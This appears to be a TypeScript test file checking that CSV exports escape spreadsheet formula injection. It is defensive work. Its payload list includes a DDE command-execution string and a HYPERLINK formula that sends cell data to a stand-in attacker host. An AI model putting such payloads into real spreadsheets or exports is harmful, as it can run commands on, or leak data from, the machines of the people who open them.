/** Tables that people open in a spreadsheet (ASVS 1.2.10): words stay words, numbers stay numbers. */
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { refusalsAsCsv } from '../../server/cli/import/refusals.ts'
import { csvOf } from '../../server/http/csv.ts'

const FORMULAS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://boese.example?x="&A1,"hier")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=1+1',
  '"=1+1',
  'a"\r\n=1+1',
  'a;=1+1',
  'a,=1+1',
]
const STARTS_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/

describe('no cell begins a formula', () => {
  const cellsOf = (csv: string, delimiter: string) =>
    parse(csv, { delimiter, bom: true, relax_column_count: true }) as string[][]

  it.each(FORMULAS)('as an answer of ours: %j', (text) => {
    expect(cellsOf(csvOf([['a', text, text]]), ',')).toEqual([
      ['a', ...Array(2).fill(STARTS_FORMULA.test(text) ? `'${text}` : text)],
    ])
  })

  it.each(FORMULAS)('in the list of what an import did not take: %j', (text) => {
    const refusals = [{ line: 2, ref: text, field: text, reason: 'category_unknown' as const, value: text }]
    const cells = cellsOf(refusalsAsCsv(refusals, 'de'), ';').flat()
    expect(cells.filter((cell) => STARTS_FORMULA.test(cell))).toEqual([])
    expect(cells.filter((cell) => cell.includes(text)).length).toBeGreaterThanOrEqual(2)
  })

  it('whatever is in it, the cells stay those that were written, in their order', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...FORMULAS),
      fc.integer(),
      fc.double({ noNaN: true }),
    )
    const row = fc.array(cell, { minLength: 2, maxLength: 5 })
    fc.assert(
      fc.property(row, (cells) => {
        const read = cellsOf(csvOf([cells, ['end', 'end']]), ',')
        expect(read).toHaveLength(2)
        expect(
          read[0]!.map((one, index) => (typeof cells[index] === 'string' ? one.replace(/^'/, '') : Number(one))),
        ).toEqual(cells.map((one) => (typeof one === 'string' ? one.replace(/^'/, '') : one + 0)))
      }),
    )
  })

  it('a number below zero stays a number', () => {
    expect(csvOf([[-1, -0.5, 1e21]])).toBe('-1,-0.5,1e+21\r\n')
  })
})
